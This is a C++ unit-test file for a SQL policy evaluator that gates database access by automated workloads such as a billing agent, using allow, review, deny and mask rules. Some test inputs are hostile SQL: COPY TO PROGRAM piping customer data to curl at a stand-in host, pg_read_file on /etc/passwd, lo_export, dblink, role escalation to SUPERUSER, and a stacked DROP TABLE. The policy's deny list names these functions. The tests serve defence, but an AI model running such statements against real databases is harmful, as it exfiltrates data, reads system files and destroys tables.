// The policy evaluator as a pure function, table-driven, on statements classified by the
// real grammar (userspace/sql) and the bank example policy.
#include "userspace/policy/evaluator.h"

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "userspace/policy/loader.h"
#include "userspace/sql/classify.h"

namespace interlock::policy {
namespace {

constexpr char kBankPolicy[] = R"YAML(
resources:
  - {resource: bank-db, default_action: ACTION_REVIEW}
rules:
  - id: allow-select
    match: {kinds: [STATEMENT_KIND_SELECT]}
    action: ACTION_ALLOW
  - id: review-full-customer-read
    match: {kinds: [STATEMENT_KIND_SELECT], tables: [customers], no_limit: true}
    action: ACTION_REVIEW
    reason: full-table read of customers
  - id: allow-bounded-writes
    match: {kinds: [STATEMENT_KIND_INSERT, STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE]}
    action: ACTION_ALLOW
  - id: review-unbounded-writes
    match: {kinds: [STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE], no_where: true}
    action: ACTION_REVIEW
    review_timeout_s: 60
  - id: review-hidden-writes
    match: {kinds: [STATEMENT_KIND_SELECT], tables_written: ["*"]}
    action: ACTION_REVIEW
    reason: a data-modifying CTE inside a SELECT
  - id: review-ddl
    match: {kinds: [STATEMENT_KIND_DDL]}
    action: ACTION_REVIEW
  - id: review-copy-out
    match: {copy_to: true}
    action: ACTION_REVIEW
  - id: deny-copy-program
    match: {copy_program: true}
    action: ACTION_DENY
    reason: COPY PROGRAM runs commands on the database host
  - id: deny-dangerous-functions
    match: {functions: [pg_read_file, lo_export, "dblink*"]}
    action: ACTION_DENY
  - id: deny-role-changes
    match: {kinds: [STATEMENT_KIND_ROLE, STATEMENT_KIND_GRANT]}
    action: ACTION_DENY
  - id: deny-interns-deletes
    subject: {groups: [interns]}
    match: {kinds: [STATEMENT_KIND_DELETE]}
    action: ACTION_DENY
)YAML";

struct Case {
  std::string sql;
  v1::Action action;
  std::string rule;  // "" for a resource default
  std::string source = "rule";
};

class BankPolicyTest : public ::testing::TestWithParam<Case> {
 protected:
  static void SetUpTestSuite() {
    auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
    ASSERT_TRUE(eval.ok()) << eval.status();
    eval_ = std::move(*eval).release();
  }
  static PolicyEvaluator* eval_;
};
PolicyEvaluator* BankPolicyTest::eval_ = nullptr;

TEST_P(BankPolicyTest, DecidesAsDocumented) {
  const Case& c = GetParam();
  auto sql = sql::Classify(c.sql);
  ASSERT_TRUE(sql.ok()) << sql.status();
  SubjectFacts who{.workload = "billing-agent"};
  Decision d = eval_->Evaluate(who, "bank-db", *sql);
  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> rule " << d.rule_id;
  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
  EXPECT_EQ(d.source, c.source) << c.sql;
}

INSTANTIATE_TEST_SUITE_P(
    Bank, BankPolicyTest,
    ::testing::Values(
        Case{"SELECT name FROM customers WHERE id = 42 LIMIT 1", v1::ACTION_ALLOW, "allow-select"},
        Case{"SELECT * FROM customers", v1::ACTION_REVIEW, "review-full-customer-read"},
        Case{"select * from public.customers c join orders o on o.cid = c.id", v1::ACTION_REVIEW,
             "review-full-customer-read"},
        Case{"SELECT * FROM orders", v1::ACTION_ALLOW, "allow-select"},
        Case{"DELETE FROM customers", v1::ACTION_REVIEW, "review-unbounded-writes"},
        Case{"DELETE FROM customers WHERE id = 3", v1::ACTION_ALLOW, "allow-bounded-writes"},
        Case{"UPDATE accounts SET balance = 0", v1::ACTION_REVIEW, "review-unbounded-writes"},
        Case{"EXPLAIN ANALYZE DELETE FROM customers", v1::ACTION_REVIEW, "review-unbounded-writes"},
        // A write hidden in a SELECT is still a write.
        Case{"WITH d AS (DELETE FROM orders RETURNING *) SELECT 1", v1::ACTION_REVIEW,
             "review-hidden-writes"},
        Case{"COPY customers TO PROGRAM 'curl -d @- http://x'", v1::ACTION_DENY, "deny-copy-program"},
        Case{"COPY (SELECT * FROM customers) TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
        Case{"SELECT pg_read_file('/etc/passwd')", v1::ACTION_DENY, "deny-dangerous-functions"},
        Case{"SELECT id FROM customers WHERE note = (SELECT lo_export(1, '/tmp/x')) LIMIT 5",
             v1::ACTION_DENY, "deny-dangerous-functions"},
        Case{"SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", v1::ACTION_DENY,
             "deny-dangerous-functions"},
        Case{"ALTER ROLE app SUPERUSER", v1::ACTION_DENY, "deny-role-changes"},
        Case{"GRANT ALL ON customers TO PUBLIC", v1::ACTION_DENY, "deny-role-changes"},
        Case{"SELECT 1; DROP TABLE customers", v1::ACTION_REVIEW, "review-ddl"},
        Case{"/* DROP */ SELECT 'DELETE FROM customers' FROM orders -- ; DROP TABLE x",
             v1::ACTION_ALLOW, "allow-select"},
        Case{"SELEC 1", v1::ACTION_DENY, "", "parse_error_default"},
        Case{"VACUUM", v1::ACTION_REVIEW, "", "default"}));

TEST(PolicyEvaluator, MultiStatementReportsTheDecidingStatement) {
  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("SELECT 1; SELECT 2; ALTER ROLE x SUPERUSER");
  ASSERT_TRUE(sql.ok());
  Decision d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
  EXPECT_EQ(d.action, v1::ACTION_DENY);
  EXPECT_EQ(d.statement_index, 2);
}

TEST(PolicyEvaluator, EstimatedRowsAreAskedForOnlyWhenTheyCanMatter) {
  auto eval = LoadPolicyText(R"YAML(
rules:
  - {id: reads, match: {kinds: [STATEMENT_KIND_SELECT]}, action: ACTION_ALLOW}
  - id: big-reads
    match: {kinds: [STATEMENT_KIND_SELECT], estimated_rows_gt: 1000}
    action: ACTION_REVIEW
  - {id: drops, match: {kinds: [STATEMENT_KIND_DDL]}, action: ACTION_DENY}
  - id: big-drops
    match: {kinds: [STATEMENT_KIND_DDL], estimated_rows_gt: 10}
    action: ACTION_REVIEW
)YAML", "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  SubjectFacts who{.workload = "a"};
  auto sql = sql::Classify("SELECT * FROM t");
  Decision d = (*eval)->Evaluate(who, "db", *sql);
  EXPECT_EQ(d.action, v1::ACTION_ALLOW);
  EXPECT_THAT(d.needs_estimate, ::testing::ElementsAre(0));
  StatementEstimates small = {{.rows = 5}}, big = {{.rows = 5000}};
  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql, &small).action, v1::ACTION_ALLOW);
  d = (*eval)->Evaluate(who, "db", *sql, &big);
  EXPECT_EQ(d.action, v1::ACTION_REVIEW);
  EXPECT_EQ(d.rule_id, "big-reads");
  EXPECT_TRUE(d.needs_estimate.empty());
  // Already denied: no estimate can make it stricter, so none is asked for.
  sql = sql::Classify("DROP TABLE t");
  EXPECT_TRUE((*eval)->Evaluate(who, "db", *sql).needs_estimate.empty());
  // Multi-statement: the index of the statement that needs one.
  sql = sql::Classify("SELECT 1; SELECT * FROM t");
  EXPECT_THAT((*eval)->Evaluate(who, "db", *sql).needs_estimate, ::testing::ElementsAre(0, 1));
}

// full_table: the statement's estimate against the whole table's, however the WHERE or the
// LIMIT is spelled. Each case: the statement, its estimated rows, the tables' estimated rows,
// and the decision.
constexpr char kFullTablePolicy[] = R"YAML(
rules:
  - {id: reads, match: {kinds: [STATEMENT_KIND_SELECT]}, action: ACTION_ALLOW}
  - {id: writes, match: {kinds: [STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE, STATEMENT_KIND_INSERT]}, action: ACTION_ALLOW}
  - id: whole-customers
    match: {kinds: [STATEMENT_KIND_SELECT], tables: [customers], full_table: true}
    action: ACTION_REVIEW
  - id: whole-table-writes
    match: {kinds: [STATEMENT_KIND_UPDATE, STATEMENT_KIND_DELETE], full_table: true}
    action: ACTION_REVIEW
  - id: half-of-orders
    match: {tables: [orders], full_table: true, full_table_fraction: 0.5, full_table_min_rows: 1}
    action: ACTION_DENY
  - {id: no-grants, match: {kinds: [STATEMENT_KIND_GRANT]}, action: ACTION_DENY}
)YAML";

struct FullTableCase {
  std::string sql;
  std::optional<int64_t> rows;  // the statement's estimate; nullopt: none given
  std::map<std::string, int64_t> tables;
  v1::Action action;
  std::string rule;
};

class FullTableTest : public ::testing::TestWithParam<FullTableCase> {};

TEST_P(FullTableTest, ComparesTheStatementWithTheWholeTable) {
  const FullTableCase& c = GetParam();
  auto eval = LoadPolicyText(kFullTablePolicy, "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  auto sql = sql::Classify(c.sql);
  ASSERT_TRUE(sql.ok());
  StatementEstimates est = {{.rows = c.rows, .table_rows = c.tables}};
  Decision d = (*eval)->Evaluate({.workload = "a"}, "db", *sql, c.rows.has_value() ? &est : nullptr);
  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> " << d.rule_id;
  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
}

constexpr int64_t kFailed = kEstimateFailed;
INSTANTIATE_TEST_SUITE_P(
    Spellings, FullTableTest,
    ::testing::Values(
        // Every spelling of "the whole table" reaches 90% of it.
        FullTableCase{"SELECT * FROM customers LIMIT 1000000", 1000, {{"customers", 1000}}, v1::ACTION_REVIEW,
                      "whole-customers"},
        FullTableCase{"SELECT * FROM customers WHERE id > 0", 999, {{"customers", 1000}}, v1::ACTION_REVIEW,
                      "whole-customers"},
        FullTableCase{"SELECT ssn FROM public.customers WHERE true", 950, {{"public.customers", 1000}},
                      v1::ACTION_REVIEW, "whole-customers"},
        FullTableCase{"DELETE FROM customers WHERE true", 1000, {{"customers", 1000}}, v1::ACTION_REVIEW,
                      "whole-table-writes"},
        FullTableCase{"UPDATE accounts SET note = '' WHERE 1=1", 5000, {{"accounts", 5000}}, v1::ACTION_REVIEW,
                      "whole-table-writes"},
        FullTableCase{"EXPLAIN ANALYZE DELETE FROM customers WHERE id > 0", 1000, {{"customers", 1000}},
                      v1::ACTION_REVIEW, "whole-table-writes"},
        // A join of customers with a bigger table: more rows than customers has.
        FullTableCase{"SELECT * FROM customers c JOIN accounts a ON a.cid = c.id", 5000,
                      {{"customers", 1000}}, v1::ACTION_REVIEW, "whole-customers"},
        // Narrow ones do not.
        FullTableCase{"SELECT * FROM customers WHERE id = 1", 1, {{"customers", 1000}}, v1::ACTION_ALLOW, "reads"},
        FullTableCase{"SELECT * FROM customers LIMIT 10", 10, {{"customers", 1000}}, v1::ACTION_ALLOW, "reads"},
        FullTableCase{"SELECT * FROM customers WHERE id > 200", 800, {{"customers", 1000}}, v1::ACTION_ALLOW,
                      "reads"},
        FullTableCase{"DELETE FROM customers WHERE id = 3", 1, {{"customers", 1000}}, v1::ACTION_ALLOW, "writes"},
        // Small and empty tables (the planner says 1 row for an empty one): not looked at,
        // below full_table_min_rows (default 100).
        FullTableCase{"SELECT * FROM customers LIMIT 10", 2, {{"customers", 2}}, v1::ACTION_ALLOW, "reads"},
        FullTableCase{"SELECT * FROM customers LIMIT 1000000", 1, {{"customers", 1}}, v1::ACTION_ALLOW, "reads"},
        FullTableCase{"DELETE FROM customers WHERE true", 1, {{"customers", 1}}, v1::ACTION_ALLOW, "writes"},
        FullTableCase{"DELETE FROM customers WHERE true", 99, {{"customers", 99}}, v1::ACTION_ALLOW, "writes"},
        FullTableCase{"DELETE FROM customers WHERE true", 100, {{"customers", 100}}, v1::ACTION_REVIEW,
                      "whole-table-writes"},
        // A rule's own fraction and minimum.
        FullTableCase{"SELECT * FROM orders WHERE id > 5", 5, {{"orders", 10}}, v1::ACTION_DENY, "half-of-orders"},
        FullTableCase{"SELECT * FROM orders WHERE id > 6", 4, {{"orders", 10}}, v1::ACTION_ALLOW, "reads"},
        // Fail closed: an estimate that could not be obtained (or was not delivered) applies.
        FullTableCase{"SELECT * FROM customers WHERE id = 1", kFailed, {{"customers", 1000}}, v1::ACTION_REVIEW,
                      "whole-customers"},
        FullTableCase{"SELECT * FROM customers WHERE id = 1", 1, {{"customers", kFailed}}, v1::ACTION_REVIEW,
                      "whole-customers"},
        FullTableCase{"DELETE FROM customers WHERE id = 3", 1, {}, v1::ACTION_REVIEW, "whole-table-writes"},
        // Without estimates the rule does not decide (the caller is asked to get them).
        FullTableCase{"DELETE FROM customers WHERE true", std::nullopt, {}, v1::ACTION_ALLOW, "writes"},
        // SELECT: only the rule's `tables` are compared (accounts is not customers).
        FullTableCase{"SELECT * FROM customers c JOIN accounts a ON a.cid = c.id WHERE c.id = 1", 5000,
                      {{"customers", 1000}, {"accounts", 5000}}, v1::ACTION_REVIEW, "whole-customers"},
        FullTableCase{"SELECT * FROM customers c JOIN accounts a ON a.cid = c.id WHERE c.id = 1", 5,
                      {{"customers", 1000}, {"accounts", 5}}, v1::ACTION_ALLOW, "reads"},
        // UPDATE/DELETE: the target, not the tables it reads.
        FullTableCase{"DELETE FROM accounts USING customers WHERE accounts.cid = customers.id AND customers.id = 1",
                      1000, {{"accounts", 5000}, {"customers", 1000}}, v1::ACTION_ALLOW, "writes"},
        // INSERT ... SELECT: the tables it reads (here no rule for INSERT names customers).
        FullTableCase{"INSERT INTO customers SELECT * FROM customers", 1000, {{"customers", 1000}},
                      v1::ACTION_ALLOW, "writes"},
        FullTableCase{"INSERT INTO archive SELECT * FROM orders WHERE true", 10, {{"orders", 10}},
                      v1::ACTION_DENY, "half-of-orders"},
        FullTableCase{"INSERT INTO orders VALUES (1)", 1, {}, v1::ACTION_ALLOW, "writes"}));

TEST(PolicyEvaluator, FullTableAsksForTheTablesItComparesWith) {
  auto eval = LoadPolicyText(kFullTablePolicy, "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  SubjectFacts who{.workload = "a"};
  auto names = [](const std::vector<v1::TableRef>& refs) {
    std::vector<std::string> out;
    for (const auto& r : refs) out.push_back(r.qualified_name());
    return out;
  };
  // SELECT: the tables read that match the rule's `tables`.
  auto sql = sql::Classify("SELECT * FROM accounts a JOIN public.customers c ON a.cid = c.id WHERE c.id = 1");
  Decision d = (*eval)->Evaluate(who, "db", *sql);
  EXPECT_THAT(d.needs_estimate, ::testing::ElementsAre(0));
  ASSERT_EQ(d.needs_table_estimates.count(0), 1u);
  EXPECT_THAT(names(d.needs_table_estimates[0]), ::testing::ElementsAre("public.customers"));
  // DELETE: its target only.
  sql = sql::Classify("SELECT 1; DELETE FROM accounts USING customers WHERE accounts.cid = customers.id");
  d = (*eval)->Evaluate(who, "db", *sql);
  EXPECT_THAT(d.needs_estimate, ::testing::ElementsAre(1));
  EXPECT_EQ(d.needs_table_estimates.count(0), 0u);
  EXPECT_THAT(names(d.needs_table_estimates[1]), ::testing::ElementsAre("accounts"));
  // A statement no full_table rule could match asks for nothing: INSERT, a SELECT of other
  // tables, a statement already denied.
  for (const char* text : {"INSERT INTO customers VALUES (1)", "SELECT * FROM accounts", "SELECT 1",
                           "DELETE FROM customers WHERE id = 1; GRANT ALL ON customers TO x"}) {
    sql = sql::Classify(text);
    d = (*eval)->Evaluate(who, "db", *sql);
    EXPECT_TRUE(d.needs_estimate.empty()) << text;
    EXPECT_TRUE(d.needs_table_estimates.empty()) << text;
  }
  // The same table written twice is asked for once.
  sql = sql::Classify("SELECT * FROM orders o1, orders o2 WHERE o1.id = 1");
  d = (*eval)->Evaluate(who, "db", *sql);
  EXPECT_THAT(names(d.needs_table_estimates[0]), ::testing::ElementsAre("orders"));
}

TEST(PolicyEvaluator, FullTableFractionIsValidated) {
  for (const char* f : {"1.5", "-0.1", ".nan"}) {
    auto eval = LoadPolicyText(absl::StrCat("rules: [{id: x, action: ACTION_REVIEW, match: {full_table: true, "
                                            "full_table_fraction: ",
                                            f, "}}]"),
                               "p.yaml");
    EXPECT_FALSE(eval.ok()) << f;
    if (!eval.ok()) {
      EXPECT_THAT(eval.status().message(), ::testing::HasSubstr("full_table_fraction")) << f;
    }
  }
  EXPECT_TRUE(LoadPolicyText("rules: [{id: x, action: ACTION_REVIEW, match: {full_table: true, "
                             "full_table_fraction: 1}}]",
                             "p.yaml")
                  .ok());
}

TEST(PolicyEvaluator, SubjectBySystemdUnit) {
  auto eval = LoadPolicyText(R"YAML(
rules:
  - {id: all, action: ACTION_ALLOW}
  - id: etl-no-deletes
    subject: {units: ["etl-*.service"]}
    match: {kinds: [STATEMENT_KIND_DELETE]}
    action: ACTION_DENY
)YAML", "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  auto sql = sql::Classify("DELETE FROM t WHERE id = 1");
  SubjectFacts etl{.workload = "etl", .cgroup_path = "/system.slice/etl-nightly.service"};
  EXPECT_EQ((*eval)->Evaluate(etl, "db", *sql).rule_id, "etl-no-deletes");
  SubjectFacts other{.workload = "etl", .cgroup_path = "/system.slice/etl-nightly.services/x"};
  EXPECT_EQ((*eval)->Evaluate(other, "db", *sql).action, v1::ACTION_ALLOW);
}

TEST(PolicyEvaluator, TokenClaimRulesNeedAToken) {
  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("DELETE FROM orders WHERE id = 1");
  ASSERT_TRUE(sql.ok());
  SubjectFacts intern{.workload = "a", .has_token = true, .sub = "alice", .groups = {"interns"}};
  EXPECT_EQ((*eval)->Evaluate(intern, "bank-db", *sql).rule_id, "deny-interns-deletes");
  SubjectFacts no_token{.workload = "a", .groups = {"interns"}};  // claims without a token
  EXPECT_EQ((*eval)->Evaluate(no_token, "bank-db", *sql).action, v1::ACTION_ALLOW);
}

TEST(PolicyEvaluator, ReviewTimeoutAndReasonComeFromTheRule) {
  auto eval = LoadPolicyText(kBankPolicy, "bank.yaml");
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("UPDATE accounts SET balance = 0");
  Decision d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
  EXPECT_EQ(d.review_timeout, absl::Seconds(60));
  sql = sql::Classify("SELECT * FROM customers");
  d = (*eval)->Evaluate({.workload = "a"}, "bank-db", *sql);
  EXPECT_EQ(d.reason, "full-table read of customers");
  EXPECT_EQ(d.review_timeout, absl::Minutes(5));
}

TEST(PolicyEvaluator, UnlistedResourceDefaultsToReviewAndParseErrorsToDeny) {
  v1::Policy empty;
  auto eval = PolicyEvaluator::Create(empty);
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("SELECT 1");
  EXPECT_EQ((*eval)->Evaluate({}, "any", *sql).action, v1::ACTION_REVIEW);
  sql = sql::Classify("SELECT FROM WHERE");
  EXPECT_EQ((*eval)->Evaluate({}, "any", *sql).action, v1::ACTION_DENY);
}

// However the agent spells the table, a pattern for it matches: qualified or not, quoted or
// not; an unqualified name matches a qualified pattern (search_path is the agent's to set).
TEST(PolicyEvaluator, TablePatternsMatchEverySpellingOfTheTable) {
  auto eval = LoadPolicyText(R"YAML(
rules:
  - {id: qualified, match: {tables: [public.customers]}, action: ACTION_DENY}
  - {id: read, match: {kinds: [STATEMENT_KIND_SELECT]}, action: ACTION_ALLOW}
)YAML",
                             "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  for (const char* sql : {"SELECT * FROM customers", "SELECT * FROM public.customers", "SELECT * FROM \"customers\"",
                          "SELECT * FROM \"public\".\"customers\"", "SELECT * FROM CUSTOMERS",
                          "SELECT * FROM bank.public.customers"}) {
    auto c = sql::Classify(sql);
    ASSERT_TRUE(c.ok());
    EXPECT_EQ((*eval)->Evaluate({}, "db", *c).rule_id, "qualified") << sql;
  }
  for (const char* sql : {"SELECT * FROM other.customers", "SELECT * FROM \"Customers\""}) {
    auto c = sql::Classify(sql);
    ASSERT_TRUE(c.ok());
    EXPECT_EQ((*eval)->Evaluate({}, "db", *c).rule_id, "read") << sql;
  }
}

// A plain table pattern is matched without fnmatch (userspace/policy/glob.h); "[c]ustomers"
// means the same as "customers" (a bracketed letter, never a dot: the dots split schema and
// name) but goes through fnmatch. Both must decide alike for every
// spelling of every table.
TEST(PolicyEvaluator, PlainTablePatternsDecideAsTheirGlobSpellings) {
  const std::vector<std::pair<std::string, std::string>> patterns = {
      {"customers", "[c]ustomers"},        {"public.customers", "[p]ublic.customers"},
      {"bank.public.customers", "[b]ank.public.customers"}, {"other.customers", "[o]ther.customers"},
      {"public", "[p]ublic"},              {"public.", "[p]ublic."},
      {".customers", ".[c]ustomers"},      {"customers.public", "[c]ustomers.public"}};
  const std::vector<std::string> statements = {
      "SELECT * FROM customers", "SELECT * FROM public.customers", "SELECT * FROM \"public\".\"customers\"",
      "SELECT * FROM bank.public.customers", "SELECT * FROM other.customers", "SELECT * FROM \"Customers\"",
      "SELECT * FROM public", "SELECT * FROM customers.public", "SELECT * FROM \"public.customers\"",
      "SELECT * FROM \"\".customers", "UPDATE public.customers SET a = 1 WHERE id = 2",
      "SELECT * FROM accounts a JOIN customers c ON a.id = c.id"};
  for (const auto& [plain, glob] : patterns) {
    auto load = [&](const std::string& pattern) {
      return LoadPolicyText(absl::StrCat("rules:\n  - {id: t, match: {tables: [\"", pattern,
                                         "\"]}, action: ACTION_DENY}\n  - {id: other, action: ACTION_ALLOW}\n"),
                            "p.yaml");
    };
    auto a = load(plain);
    auto b = load(glob);
    ASSERT_TRUE(a.ok()) << a.status();
    ASSERT_TRUE(b.ok()) << b.status();
    for (const std::string& sql : statements) {
      auto c = sql::Classify(sql);
      if (!c.ok() || c->parse_error()) continue;
      EXPECT_EQ((*a)->Evaluate({}, "db", *c).rule_id, (*b)->Evaluate({}, "db", *c).rule_id)
          << plain << " / " << glob << ": " << sql;
    }
  }
}

TEST(PolicyEvaluator, SubjectWorkloadCgroupAndUid) {
  v1::Policy p;
  v1::Rule* r = p.add_rules();
  r->set_id("billing-only");
  r->set_action(v1::ACTION_DENY);
  r->mutable_subject()->add_workloads("billing-*");
  r->mutable_subject()->add_cgroups("/interlock/workloads");
  r->mutable_subject()->add_uids(1000);
  auto eval = PolicyEvaluator::Create(p);
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("SELECT 1");
  SubjectFacts who{.workload = "billing-agent", .cgroup_path = "/interlock/workloads/billing-agent.1", .uid = 1000};
  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "billing-only");
  who.uid = 0;
  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
  who.uid = 1000;
  who.workload = "reporting";
  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
  who.workload = "billing-agent";
  who.cgroup_path = "/interlock/workloadsX";  // a prefix of the path string, not of the tree
  EXPECT_EQ((*eval)->Evaluate(who, "db", *sql).rule_id, "");
}

TEST(PolicyEvaluator, MoreSpecificRuleIsReportedAmongEqualActions) {
  v1::Policy p;
  v1::Rule* general = p.add_rules();
  general->set_id("general");
  general->set_action(v1::ACTION_REVIEW);
  general->mutable_match()->add_kinds(v1::STATEMENT_KIND_DELETE);
  v1::Rule* specific = p.add_rules();
  specific->set_id("specific");
  specific->set_action(v1::ACTION_REVIEW);
  specific->mutable_match()->add_kinds(v1::STATEMENT_KIND_DELETE);
  specific->mutable_match()->add_tables("customers");
  auto eval = PolicyEvaluator::Create(p);
  ASSERT_TRUE(eval.ok());
  auto sql = sql::Classify("DELETE FROM customers WHERE id = 1");
  EXPECT_EQ((*eval)->Evaluate({}, "db", *sql).rule_id, "specific");
}

TEST(PolicyEvaluator, MaskProfilesForTheSessionFloorFollowSubjectAndResource) {
  auto eval = LoadPolicyText(R"YAML(
rules:
  - {id: all, action: ACTION_ALLOW}
  - id: mask-everyone
    match: {kinds: [STATEMENT_KIND_SELECT], tables: [customers]}
    action: ACTION_MASK
    mask_profile: pii
  - id: mask-billing-cards
    subject: {workloads: ["billing-*"]}
    match: {resources: ["bank-*"], kinds: [STATEMENT_KIND_SELECT]}
    action: ACTION_MASK
    mask_profile: cards
  - id: mask-pii-again
    match: {tables: [accounts]}
    action: ACTION_MASK
    mask_profile: pii
  - id: mask-only-on-hr
    match: {resources: [hr-db]}
    action: ACTION_MASK
    mask_profile: hr
mask_profiles:
  - {name: pii, detectors: [{detector: DETECTOR_SSN}]}
  - {name: cards, detectors: [{detector: DETECTOR_CARD}]}
  - {name: hr, detectors: [{detector: DETECTOR_EMAIL}]}
  - {name: unused, detectors: [{detector: DETECTOR_IBAN}]}
)YAML", "p.yaml");
  ASSERT_TRUE(eval.ok()) << eval.status();
  // Whatever the statement: the match's tables and kinds do not narrow the floor, its
  // resources and the rule's subject do. Each profile once, in rule order.
  EXPECT_THAT((*eval)->MaskProfilesFor({.workload = "billing-agent"}, "bank-db"),
              ::testing::ElementsAre("pii", "cards"));
  EXPECT_THAT((*eval)->MaskProfilesFor({.workload = "reporting"}, "bank-db"), ::testing::ElementsAre("pii"));
  EXPECT_THAT((*eval)->MaskProfilesFor({.workload = "billing-agent"}, "hr-db"),
              ::testing::ElementsAre("pii", "hr"));
  auto none = LoadPolicyText("rules:\n  - {id: all, action: ACTION_ALLOW}\n", "q.yaml");
  ASSERT_TRUE(none.ok());
  EXPECT_TRUE((*none)->MaskProfilesFor({.workload = "billing-agent"}, "bank-db").empty());
}

}  // namespace
}  // namespace interlock::policy
